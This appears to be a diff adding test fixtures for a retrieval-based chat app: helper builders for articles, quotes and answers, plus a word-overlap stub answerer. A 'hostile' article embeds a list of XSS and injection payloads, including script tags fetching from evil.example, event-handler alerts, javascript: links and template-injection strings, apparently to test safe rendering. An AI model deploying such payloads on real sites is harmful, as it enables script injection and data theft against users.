@@ -1,0 +1,168 @@
+"""Articles, one of them hostile, and an asker that ranks their sentences by shared words, for the tests of the chat."""
+
+import re
+from collections.abc import Sequence
+from dataclasses import replace
+from pathlib import Path
+
+from rag.articles import sha256_of
+from rag.errors import QuestionError
+from rag.schema import (
+    Abstention,
+    Answer,
+    Article,
+    ArticleReference,
+    Coverage,
+    DisagreeingValue,
+    Disagreement,
+    Highlight,
+    Question,
+    Quote,
+    Sentence,
+    Speaker,
+)
+from rag.segment import split_sentences
+
+PAYLOADS = (
+    "<script>fetch('http://evil.example/script')</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)></svg>",
+    "![x](http://evil.example/x.png)",
+    "[a](javascript:alert(1))",
+    '<a href="javascript:alert(1)">a</a>',
+    "$$\\href{javascript:alert(1)}{a}$$",
+    "</div></section></article><h1>out</h1>",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "<style>*{display:none}</style>",
+    '"><iframe src=http://evil.example/frame></iframe>',
+    "' onmouseover='alert(1)",
+    "`</script><script>alert(1)</script>`",
+    "<details open ontoggle=alert(1)>",
+    '<link rel=stylesheet href="http://evil.example/a.css">',
+    "&lt;b&gt; &amp; &#60;img src=x&#62;",
+    "\u202eright to left\u202c",
+)
+
+
+def article(id: str, text: str, title: str, url: str | None = None) -> Article:
+    """An article as it would be stored."""
+    return Article(id, text, sha256_of(text), title, f"{id}.txt", url=url)
+
+
+def _seed() -> Article:
+    text = (Path(__file__).parents[1] / "corpus" / "000_e152aec2c99f597f.txt").read_text("utf-8")
+    return article("seed", text, text.splitlines()[0])
+
+
+SEED = _seed()
+HOSTILE = article(
+    "hostile",
+    "\n\n".join(f"A harmless note says {payload} and goes on." for payload in PAYLOADS),
+    "Notes <script>alert(1)</script> ![x](http://evil.example/title.png)",
+    "javascript:alert(1)",
+)
+TSUKANOV = "the region’s Prosecutor General"
+
+
+def sentences(article: Article) -> tuple[Sentence, ...]:
+    """The sentences of an article."""
+    return split_sentences(article.text, article.title)
+
+
+def quote(article: Article, number: int, marked: str = "", speaker: Speaker | None = None) -> Quote:
+    """The sentence with this number, with its highlight and its speaker."""
+    found = next(sentence for sentence in sentences(article) if sentence.number == number)
+    text = article.text[found.start : found.end]
+    place = found.start + text.index(marked)
+    return Quote(
+        text=text,
+        article=ArticleReference(article.id, article.title, None, None, article.url, article.sha256),
+        start=found.start,
+        end=found.end,
+        sentence=number,
+        sentences=max(sentence.number for sentence in sentences(article)),
+        highlight=Highlight(place, place + len(marked)) if marked else None,
+        speech="direct" if speaker else "none",
+        speaker=speaker,
+        cue=None,
+        via=None,
+        dates=(),
+        score=0.5,
+    )
+
+
+def speaker(article: Article, name: str, role: str | None = None) -> Speaker:
+    """A speaker that the article names."""
+    return Speaker(name, role, article.text.index(name), article.text.index(name) + len(name))
+
+
+def answered(*quotes: Quote, question: str = "?", disagreements: Sequence[Disagreement] = ()) -> Answer:
+    """An answer with these quotes."""
+    coverage = Coverage(1, None, None, 1, 1)
+    return Answer("a", question, question, "answered", 0.9, quotes, tuple(disagreements), None, coverage, "sha256:0")
+
+
+def abstained(*near_misses: Quote, question: str = "?", reason: str = "not_stated") -> Answer:
+    """An abstention with these closest sentences."""
+    return replace(
+        answered(question=question), status="abstained", confidence=0.1, abstention=Abstention(reason, near_misses)
+    )
+
+
+def two_figures() -> Answer:
+    """Quotes of 358 and 288 dead, and their disagreement, the older figure first."""
+    newer = quote(SEED, 3, "358", speaker(SEED, "Alexei Tsukanov", TSUKANOV))
+    older = quote(SEED, 7, "288", speaker(SEED, "Alexander Khinshtein"))
+    figures = (DisagreeingValue(288, "288", 1), DisagreeingValue(358, "358", 0))
+    return answered(newer, older, disagreements=[Disagreement("dead", figures)])
+
+
+class WordAsker:
+    """Quotes the sentences that share two words with the question, best first; else abstains, the first one closest."""
+
+    same_meaning = (("missing", "unknown"), ("people", "individuals"), ("toll", "civilian"))
+    longest = 2000
+
+    def __init__(self, *articles: Article) -> None:
+        self.stored = {article.id: article for article in articles}
+        self.asked: list[Question] = []
+
+    def ask(self, question: Question) -> Answer:
+        """The best sentences of all articles; one that names Tsukanov, or stands before him, is his."""
+        self.asked.append(question)
+        if len(question.text) > self.longest:
+            raise QuestionError(f"The question has {len(question.text):,} characters; ask about one thing.")
+        if "break" in question.text:
+            raise RuntimeError("broken on purpose")
+        words = self._words(question.text)
+        found = [
+            (len(words & self._words(article.text[sentence.start : sentence.end])), article, sentence.number)
+            for article in self.stored.values()
+            for sentence in sentences(article)
+            if sentence.number
+        ]
+        best = sorted((hit for hit in found if hit[0] >= 2), key=lambda hit: (-hit[0], hit[2]))
+        quotes = [quote(article, number, speaker=self._speaker(article, number)) for _, article, number in best]
+        answer = answered(*quotes) if quotes else abstained(quote(found[0][1], 1))
+        standalone = f"{question.text} (after: {question.history[-1]})" if question.history else question.text
+        return replace(answer, question=question.text, standalone_question=standalone)
+
+    def article(self, id: str) -> Article | None:
+        """The stored article."""
+        return self.stored.get(id)
+
+    def sentences(self, id: str) -> tuple[Sentence, ...]:
+        """Its sentences."""
+        return sentences(self.stored[id])
+
+    def articles(self) -> Sequence[Article]:
+        """All of them."""
+        return tuple(self.stored.values())
+
+    def _words(self, text: str) -> set[str]:
+        words = set(re.findall(r"\w{4,}", text.lower()))
+        return words | {same for word, same in self.same_meaning if word in words}
+
+    def _speaker(self, article: Article, number: int) -> Speaker | None:
+        return speaker(article, "Alexei Tsukanov", TSUKANOV) if article is SEED and number in {2, 3} else None
